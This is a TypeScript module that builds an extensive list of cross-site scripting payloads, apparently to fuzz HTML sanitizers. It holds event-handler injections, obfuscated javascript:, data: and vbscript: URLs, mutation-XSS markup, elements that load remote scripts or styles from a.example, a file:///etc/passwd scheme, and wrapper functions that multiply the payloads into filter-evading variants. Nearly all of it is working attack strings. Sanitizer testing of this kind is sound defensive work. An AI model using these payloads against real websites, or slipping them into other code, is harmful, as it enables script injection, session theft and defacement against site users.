/** Hostile bodies by family: each family is a shape, filled with what browsers are known to execute (C1). */
const RUN = 'alert(1)'

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
]

/** Elements with an event handler, in spellings that filters miss. */
const withHandlers = handlers.flatMap((handler) => [
  `<img src=x ${handler}=${RUN}>`,
  `<img src=x ${handler.toUpperCase()}="${RUN}">`,
  `<img/src=x/${handler}=${RUN}//`,
  `<p ${handler}\n=\n"${RUN}">x</p>`,
  `<a href="https://a.example" ${handler}='${RUN}' tabindex=0 autofocus>x</a>`,
  `<svg ${handler}=${RUN}>`,
  `<details open ${handler}=${RUN}><summary>x</summary></details>`,
  `<input autofocus ${handler}=${RUN}>`,
  `<video src=x ${handler}=${RUN}></video>`,
  `<body ${handler}=${RUN}>`,
  `<x-y ${handler}=${RUN} style="animation:a">x</x-y>`,
  `<b title="\`" ${handler}=${RUN} a="\`">x</b>`,
])

const schemes = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;&#x61;vascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+`,
  `blob:https://a.example/x`,
  `file:///etc/passwd`,
  `filesystem:https://a.example/x`,
]
/** Attributes that take an address. */
const withSchemes = schemes.flatMap((scheme) => [
  `<a href="${scheme}">x</a>`,
  `<img src="${scheme}">`,
  `<iframe src="${scheme}"></iframe>`,
  `<form action="${scheme}"><button>x</button></form>`,
  `<object data="${scheme}"></object>`,
  `<svg><a xlink:href="${scheme}"><text>x</text></a></svg>`,
])

/** Elements that run, load, cover or mislead without further action. */
const elements = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//a.example/x.js></SCRIPT>`,
  `<script/x>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script>${RUN}`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data=x></object>`,
  `<embed src=//a.example/x.swf>`,
  `<base href="//a.example/">`,
  `<meta http-equiv="refresh" content="0;url=//a.example">`,
  `<link rel=stylesheet href=//a.example/x.css>`,
  `<style>*{background:url(//a.example)}</style>`,
  `<style>@import '//a.example/x.css';</style>`,
  `<template><script>${RUN}</script></template>`,
  `<form id=a><input name=action></form>`,
  `<button form=a formaction="javascript:${RUN}">x</button>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<svg><animate attributeName=href values="javascript:${RUN}" /></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN} /></svg>`,
  `<svg><foreignObject><script>${RUN}</script></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x" /></svg>`,
  `<audio src=x autoplay onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<dialog open>x</dialog>`,
  `<div style="position:fixed;inset:0;background:red">x</div>`,
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<div id=app name=body class="fixed inset-0">x</div>`,
  `<a href="https://a.example" ping="//b.example">x</a>`,
  `<img srcset="//a.example/x 1x" src=x>`,
  `<img src="http://a.example/track.gif">`,
  `<picture><source srcset=x onerror=${RUN}></picture>`,
  `<p contenteditable onpaste=${RUN}>x</p>`,
  `<input type=image src=x onerror=${RUN}>`,
  `<portal src=//a.example></portal>`,
  `<frameset onload=${RUN}></frameset>`,
]

/** Markup that changes its meaning when a browser parses it a second time. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<svg><p><style><!--</style><img src=x onerror=${RUN}>-->`,
  `<title><img title="</title><img src=x onerror=${RUN}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]--><svg onload=${RUN}>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]><img src=y onerror=${RUN}>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<a title="a&quot;><img src=x onerror=${RUN}>"></a><svg onload=${RUN}>`,
  `<table><td><img src=x onerror=${RUN}></table>`,
  `<p>\u0000<img src=x onerror=${RUN}\u0000></p>`,
  `<iframe><img title="</iframe><img src=x onerror=${RUN}>">`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<ſcript>${RUN}</ſcript><svg/onload=${RUN}>`,
  `<img src="x\`\`><script>${RUN}</script>"\`>`,
  `\u003Cimg src=x onerror=${RUN}\u003E`,
]

export const payloads: readonly string[] = [
  ...new Set([...withHandlers, ...withSchemes, ...elements, ...mutations]),
]

/** Contexts and spellings in which filters and browsers have disagreed before. */
const WRAPPERS: readonly ((payload: string) => string)[] = [
  (payload) => `<p>${payload}</p>`,
  (payload) => `<blockquote><ul><li>${payload}`,
  (payload) => `<a href="https://a.example">${payload}</a>`,
  (payload) => `<pre><code class="language-js">${payload}</code></pre>`,
  (payload) => `<b><i><u>${payload}</b></i></u>`,
  (payload) => `<h1>${payload}${payload}</h1>`,
  (payload) => `<!-- ${payload} --><p>x</p>${payload}`,
  (payload) => `<svg>${payload}</svg>`,
  (payload) => `<math><mtext>${payload}</mtext></math>`,
  (payload) => `<table><tr><td>${payload}`,
  (payload) => `<style>${payload}</style>`,
  (payload) => `<noscript>${payload}</noscript>`,
  (payload) => `<textarea>${payload}</textarea>`,
  (payload) => `<template>${payload}</template>${payload}`,
  (payload) => `<select><option>${payload}`,
  (payload) => `<form><div>${payload}</form>`,
  (payload) => `<img title='${payload}' src="https://a.example/x.png">`,
  (payload) => `<a title="${payload}" href="https://a.example">x</a>`,
  (payload) => `"><p>${payload}`,
  (payload) => `'>-->]]>${payload}`,
  (payload) => payload.toUpperCase(),
  (payload) => payload.replaceAll('<', '<\u0000'),
  (payload) => payload.replaceAll(' ', '\n'),
  (payload) => payload.replaceAll(' ', '/'),
  (payload) => payload.replaceAll(' ', '\t\f'),
  (payload) => payload.replaceAll('=', ' = '),
  (payload) => payload.replaceAll('"', "'"),
  (payload) => payload.replaceAll('"', '`'),
  (payload) => payload.replaceAll('>', ''),
  (payload) => payload.replaceAll('</', '<//'),
  (payload) => `${payload.slice(0, Math.ceil(payload.length / 2))}<p>${payload}`,
  (payload) => payload.replaceAll('<', '<<'),
  (payload) => payload.replaceAll('alert', '\\u0061lert'),
  (payload) => payload.replaceAll('(', '&lpar;').replaceAll(')', '&rpar;'),
]

/** The payloads as they are, then wrapped, then wrapped repeatedly, each once, up to `count`. */
export const payloadsUpTo = (count: number): readonly string[] => {
  const found = new Set(payloads)
  for (let layer: readonly string[] = payloads; found.size < count;) {
    const sizeBefore = found.size
    const next: string[] = []
    for (const wrap of WRAPPERS)
      for (const payload of layer) {
        if (found.size >= count) return [...found]
        const wrapped = wrap(payload)
        if (!found.has(wrapped)) next.push(wrapped)
        found.add(wrapped)
      }
    if (found.size === sizeBefore) break
    layer = next
  }
  return [...found]
}
